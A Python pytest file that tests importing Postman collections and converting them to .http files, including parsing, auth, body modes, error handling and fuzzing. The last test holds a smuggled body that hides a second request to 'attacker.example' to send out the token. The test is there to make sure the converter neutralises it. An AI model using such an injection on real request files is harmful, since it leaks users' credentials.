"""Postman collection v2.1 import and conversion to a .http file."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.core.formats.errors import FormatError
from app.core.formats.http_file import parse_http_file, render_http_file
from app.core.formats.postman import FORM_BOUNDARY, parse_postman, postman_to_http_file

COLLECTION = {
    "info": {"_postman_id": "7c1d", "name": "Orders API",
             "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
    "auth": {"type": "bearer", "bearer": [{"key": "token", "value": "{{token}}", "type": "string"}]},
    "variable": [{"key": "base", "value": "https://api.example.com"}, {"key": "off", "value": "x", "disabled": True}],
    "item": [
        {"name": "Orders", "item": [
            {"name": "List", "request": {
                "method": "GET", "header": [{"key": "Accept", "value": "application/json"},
                                            {"key": "X-Debug", "value": "1", "disabled": True}],
                "url": {"raw": "{{base}}/orders?page=1", "host": ["{{base}}"], "path": ["orders"],
                        "query": [{"key": "page", "value": "1"}]}}},
            {"name": "Admin", "auth": {"type": "basic", "basic": [{"key": "username", "value": "ann"},
                                                                  {"key": "password", "value": "pw"}]},
             "item": [{"name": "Create", "request": {
                 "method": "POST", "header": [],
                 "body": {"mode": "raw", "raw": "{\"sku\": \"A-1\"}", "options": {"raw": {"language": "json"}}},
                 "url": {"protocol": "https", "host": ["api", "example", "com"], "path": ["orders"],
                         "query": [{"key": "dry", "value": "1"}, {"key": "x", "value": "2", "disabled": True}]}}}]},
        ]},
        {"name": "Login", "request": {"method": "POST", "auth": {"type": "noauth"},
                                      "body": {"mode": "urlencoded", "urlencoded": [
                                          {"key": "user", "value": "ann"}, {"key": "pass", "value": "a b&c"}]},
                                      "url": "{{base}}/login"}},
        {"name": "Upload", "request": {"method": "POST", "body": {"mode": "formdata", "formdata": [
            {"key": "note", "value": "hi", "type": "text"}, {"key": "doc", "type": "file", "src": "/tmp/a.pdf"}]},
            "url": "{{base}}/upload"}},
        {"name": "Query", "request": {"method": "POST", "body": {"mode": "graphql", "graphql": {
            "query": "{ orders { id } }", "variables": "{\"n\": 1}"}}, "url": "{{base}}/graphql"}},
        {"name": "Key", "request": {"method": "GET", "url": "{{base}}/k",
                                    "auth": {"type": "apikey", "apikey": [{"key": "key", "value": "X-Api-Key"},
                                                                          {"key": "value", "value": "{{k}}"},
                                                                          {"key": "in", "value": "header"}]}}},
    ],
}


def test_parse_collection() -> None:
    col = parse_postman(json.dumps(COLLECTION).encode())
    assert col.name == "Orders API" and col.variables == {"base": "https://api.example.com"}
    names = [(it.path, it.name) for it in col.items]
    assert names == [(("Orders",), "List"), (("Orders", "Admin"), "Create"), ((), "Login"), ((), "Upload"),
                     ((), "Query"), ((), "Key")]
    lst, create, login, upload, query, key = col.items
    assert lst.url == "{{base}}/orders?page=1"
    assert lst.headers == (("Accept", "application/json"), ("Authorization", "Bearer {{token}}"))
    assert any("X-Debug" in n for n in lst.notes)
    assert create.url == "https://api.example.com/orders?dry=1"
    assert ("Authorization", "Basic " + base64.b64encode(b"ann:pw").decode()) in create.headers
    assert create.content_type == "application/json" and create.body == '{"sku": "A-1"}'
    assert login.auth is None and login.body == "user=ann&pass=a%20b%26c"
    assert upload.body is not None and "< /tmp/a.pdf" in upload.body and 'name="note"' in upload.body
    assert json.loads(query.body or "") == {"query": "{ orders { id } }", "variables": {"n": 1}}
    assert ("X-Api-Key", "{{k}}") in key.headers


def test_to_http_file() -> None:
    hf = postman_to_http_file(parse_postman(json.dumps(COLLECTION)))
    assert hf.variables == {"base": "https://api.example.com"}
    create = hf.requests[1]
    assert create.name == "Orders / Admin / Create"
    assert ("Content-Type", "application/json") in create.headers
    assert parse_http_file(render_http_file(hf)) == hf


@pytest.mark.parametrize("doc, match", [
    ("nope", "not valid JSON"),
    ("[]", "not an object"),
    ('{"values": [], "_postman_variable_scope": "environment"}', "environment"),
    ('{"requests": []}', "v1 collection"),
    ('{"info": {}}', "needs an \"info\" object and an \"item\" list"),
    ('{"info": {}, "item": 3}', "should be a list"),
    ('{"info": {}, "item": [3]}', "Item 1 of the collection is not an object"),
])
def test_errors(doc: str, match: str) -> None:
    with pytest.raises(FormatError, match=match):
        parse_postman(doc)


def test_deep_nesting_is_refused() -> None:
    item: dict = {"name": "leaf", "request": {"url": "https://h"}}
    for _ in range(200):
        item = {"name": "f", "item": [item]}
    with pytest.raises(FormatError, match="nested too deeply"):
        parse_postman(json.dumps({"info": {}, "item": [item]}))


_json = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=5),
                     lambda c: st.lists(c, max_size=3) | st.dictionaries(st.sampled_from(
                         ["info", "item", "name", "request", "url", "raw", "host", "path", "query", "header", "key",
                          "value", "disabled", "body", "mode", "urlencoded", "formdata", "graphql", "auth", "type",
                          "bearer", "basic", "apikey", "variable", "options", "method", "src", "file"]), c,
                         max_size=4), max_leaves=30)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.binary(max_size=60), _json.map(json.dumps),
                 _json.map(lambda j: json.dumps({"info": {"name": "x"}, "item": [j]})),
                 _json.map(lambda j: json.dumps({"info": {}, "item": [{"name": "r", "request": j}]}))))
def test_garbage_raises_only_format_error(data: str | bytes) -> None:
    try:
        col = parse_postman(data)
        postman_to_http_file(col)
    except FormatError:
        pass


# ---------------------------------------------------------------- shapes Postman really writes

SUPPORT = Path(__file__).parent / "fixtures" / "support_cases.postman_collection.json"


def test_formdata_with_no_fields_is_no_body_and_no_multipart_type() -> None:
    col = parse_postman(SUPPORT.read_bytes())
    empty = col.items[0]
    assert empty.method == "GET" and empty.body is None and empty.content_type is None
    hf = postman_to_http_file(col)
    assert not any(k.lower() == "content-type" for k, _ in hf.requests[0].headers)
    assert parse_postman(json.dumps({"info": {}, "item": [{"name": "u", "request": {
        "url": "https://h", "body": {"mode": "urlencoded", "urlencoded": []}}}]})).items[0].body is None


def test_multipart_parts_are_joined_with_crlf_as_on_the_wire() -> None:
    upload = parse_postman(SUPPORT.read_bytes()).items[1]
    b = FORM_BOUNDARY
    assert upload.body == (f'--{b}\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n'
                           f'--{b}\r\nContent-Disposition: form-data; name="kind"\r\n\r\ninvoice\r\n--{b}--\r\n')


def test_bodies_keep_cr_and_trailing_newline_through_the_http_file() -> None:
    hf = postman_to_http_file(parse_postman(SUPPORT.read_bytes()))
    back = parse_http_file(render_http_file(hf))
    assert [r.body for r in back.requests] == [r.body for r in hf.requests]
    assert back.requests[2].body == "line one\r\nline two\r\n"


def test_a_body_with_a_separator_stays_one_request_and_is_noted() -> None:
    hf = postman_to_http_file(parse_postman(SUPPORT.read_bytes()))
    text = render_http_file(hf)
    back = parse_http_file(text)
    assert len(back.requests) == 4
    assert "attacker.example" not in "".join(r.url for r in back.requests)
    assert back.requests[3].body == "harmless text\n###\nGET https://attacker.example/collect?t={{token}}\n"
    assert any("Body that looks like a second request" in n and "###" in n for n in hf.notes)
